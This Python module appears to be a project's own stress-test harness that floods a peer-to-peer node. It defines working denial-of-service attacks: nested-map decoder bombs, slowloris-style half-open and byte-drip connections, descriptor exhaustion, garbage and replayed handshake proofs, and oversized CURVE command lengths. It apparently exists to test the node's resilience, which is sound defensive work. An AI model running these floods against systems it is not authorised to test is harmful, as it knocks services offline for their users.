"""Attacks on a node's time: floods that cost the attacker little and make the node's honest work wait.

Each is a function `(target, me, until)` that returns at `until` (monotonic seconds) at the latest, whatever the node
does; a connection that is closed or refused is a result, and the next one is tried.
"""

from __future__ import annotations

import os
import socket
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from protocol.codec import encode_message
from protocol.identity import Identity, curve_public_key_of
from protocol.limits import MAGIC, MAX_CONTROL_FRAME_BYTES, MAX_DATA_HEADER_BYTES
from protocol.link.door import DOOR_MAGIC, DOOR_NONCE_BYTES
from protocol.link.hello import Hello
from protocol.message import Ping
from scripts.attacks.raw_zmtp import COMMAND, GREETING, DoorShutError, RawZmtp, connect, frame, greeted, reset
from scripts.attacks.target import OPEN_SWARM_KEY, Attack, Attacker, Target

MAX_HELD = 2000
"""Connections that are held open at once: above a node's limit of descriptors in common settings (1024)."""
CALM_S = 0.002
"""Pause after a refusal: what is measured is the node, not how fast this program can spin."""
BATCH = 64


def nested_maps(num_bytes: int = MAX_CONTROL_FRAME_BYTES) -> bytes:
    """A frame of this size whose header is a list of empty maps: each byte is an object to a decoder that builds."""
    count = num_bytes - len(MAGIC) - 5
    return MAGIC + b"\xa1\x00" + b"\x99" + count.to_bytes(2, "big") + b"\xa0" * count


def hello_of(me: Identity) -> bytes:
    """The hello of somebody who has no proof."""
    hello = Hello(me.public_key, (1,), "knock", (), 0, (), 0, (1,), bytes(16))
    return bytes(encode_message(hello, 1)[0])


def ping() -> bytes:
    return bytes(encode_message(Ping(), 1)[0])


def _flood(target: Target, attacker: Attacker, until: float, port: int, payload: bytes) -> None:
    """One message after the other on a connection; a new one where it ends."""
    while time.monotonic() < until:
        try:
            with target.dealer(port, attacker) as connection:
                while time.monotonic() < until:
                    connection.send_raw(
                        b"".join(connection.sealed(payload) for _ in range(BATCH)), max(0.1, until - time.monotonic())
                    )
                    connection.read_what_came()
        except DoorShutError:
            time.sleep(CALM_S)


def maps_in_hellos(target: Target, attacker: Attacker, until: float) -> None:
    """64 KiB of empty maps in place of a hello, again and again."""
    _flood(target, attacker, until, target.control_port, nested_maps())


def hellos(target: Target, attacker: Attacker, until: float) -> None:
    """As many refused hellos as go through."""
    _flood(target, attacker, until, target.control_port, hello_of(attacker.me))


def data_flood(target: Target, attacker: Attacker, until: float) -> None:
    """Headers of 4 KiB on the data plane, from somebody who never said hello."""
    _flood(target, attacker, until, target.data_port, MAGIC + os.urandom(MAX_DATA_HEADER_BYTES - len(MAGIC)))


def connects(target: Target, attacker: Attacker, until: float) -> None:
    """Connections that are opened and closed at once, on both ports."""
    for port in _ports(target, until):
        with suppress(DoorShutError):
            connect(target.host, port).close()


def greetings(target: Target, attacker: Attacker, until: float) -> None:
    """Connections that greet, say nothing more and are held, up to the limit of descriptors."""
    _hold(target, until, lambda tcp: tcp.sendall(GREETING))


def half_open(target: Target, attacker: Attacker, until: float) -> None:
    """Connections that say nothing at all and are held, up to the limit of descriptors."""
    _hold(target, until, lambda tcp: None)


def handshakes(target: Target, attacker: Attacker, until: float) -> None:
    """CURVE handshakes, as many as the node goes along with."""
    for port in _ports(target, until):
        try:
            with target.dealer(port, attacker):
                pass
        except DoorShutError:
            time.sleep(CALM_S)


def door_garbage(target: Target, attacker: Attacker, until: float) -> None:
    """Random bytes of every length as a first word."""
    for number, port in enumerate(_ports(target, until)):
        _say(target, port, os.urandom(1 + number % 300))


def door_halves(target: Target, attacker: Attacker, until: float) -> None:
    """Half of what the door expects, held, a byte more each turn: slow as can be."""
    words = [DOOR_MAGIC + bytes(DOOR_NONCE_BYTES), GREETING]
    held: list[tuple[socket.socket, bytes]] = []
    for number, port in enumerate(_ports(target, until)):
        word = words[number % 2]
        with suppress(DoorShutError, OSError):
            tcp = connect(target.host, port)
            tcp.sendall(word[:3])
            held.append((tcp, word[3:-1]))
        held = _drip(held[-MAX_HELD:])
        time.sleep(CALM_S)
    _reset_all([tcp for tcp, _ in held])


def door_challenges(target: Target, attacker: Attacker, until: float) -> None:
    """Challenges asked for and never answered."""
    for port in _ports(target, until):
        _say(target, port, DOOR_MAGIC + os.urandom(DOOR_NONCE_BYTES), answer_bytes=DOOR_NONCE_BYTES)


def door_wrong_keys(target: Target, attacker: Attacker, until: float) -> None:
    """Proofs of keys that are not the swarm's, the open swarm's included."""
    for number, port in enumerate(_ports(target, until)):
        _prove(target, port, attacker.me, OPEN_SWARM_KEY if number % 2 else os.urandom(32))


def door_replays(target: Target, attacker: Attacker, until: float) -> None:
    """One sealed proof, sent again on every connection; then CURVE as if it had been taken."""
    kept: bytes | None = None
    for port in _ports(target, until):
        with suppress(DoorShutError, OSError), connect(target.host, port) as tcp:
            fresh = target.proof(tcp, attacker.me, os.urandom(32))
            kept = kept or fresh
            tcp.sendall(kept)
            tcp.recv(1)
        with suppress(DoorShutError, OSError), connect(target.host, port) as tcp:
            greeted(tcp)


def unended_commands(target: Target, attacker: Attacker, until: float) -> None:
    """CURVE's first command with a size that is far larger than it, inside an accepted greeting."""
    for port in _ports(target, until):
        with suppress(DoorShutError, OSError), connect(target.host, port) as tcp:
            if greeted(tcp):
                curve = RawZmtp(tcp, attacker.me, curve_public_key_of(target.public_key))
                tcp.sendall(curve.hello()[:-8] + frame(b"", COMMAND, 1 << 40))


# --- parts


def _ports(target: Target, until: float) -> Iterator[int]:
    """Both ports in turn, until the time is over."""
    while True:
        for port in target.ports:
            if time.monotonic() >= until:
                return
            yield port


def _say(target: Target, port: int, word: bytes, answer_bytes: int = 0) -> None:
    with suppress(DoorShutError, OSError), connect(target.host, port) as tcp:
        tcp.sendall(word)
        if answer_bytes:
            tcp.settimeout(0.2)
            tcp.recv(answer_bytes)


def _prove(target: Target, port: int, me: Identity, key: bytes) -> None:
    with suppress(DoorShutError, OSError), connect(target.host, port) as tcp:
        tcp.sendall(target.proof(tcp, me, key))
        tcp.recv(1)


def _drip(held: list[tuple[socket.socket, bytes]]) -> list[tuple[socket.socket, bytes]]:
    """One more byte on each connection that has one left; those that were closed are gone."""
    left = []
    for tcp, rest in held:
        try:
            tcp.sendall(rest[:1])
            left.append((tcp, rest[1:]))
        except OSError:
            tcp.close()
    return left


def _hold(target: Target, until: float, say: Callable[[socket.socket], None]) -> None:
    held: list[socket.socket] = []
    for port in _ports(target, until):
        try:
            tcp = connect(target.host, port)
            held.append(tcp)
            say(tcp)
        except (DoorShutError, OSError):
            time.sleep(CALM_S)
        if len(held) > MAX_HELD:
            reset(held.pop(0))
    _reset_all(held)


def _reset_all(held: list[socket.socket]) -> None:
    for tcp in held:
        reset(tcp)


TIME: dict[str, Attack] = {
    "time-maps": maps_in_hellos,
    "time-hellos": hellos,
    "time-data": data_flood,
    "time-connects": connects,
    "time-greetings": greetings,
    "time-half-open": half_open,
    "time-handshakes": handshakes,
    "time-commands": unended_commands,
}
DOOR: dict[str, Attack] = {
    "door-garbage": door_garbage,
    "door-halves": door_halves,
    "door-challenges": door_challenges,
    "door-wrong-keys": door_wrong_keys,
    "door-replays": door_replays,
}
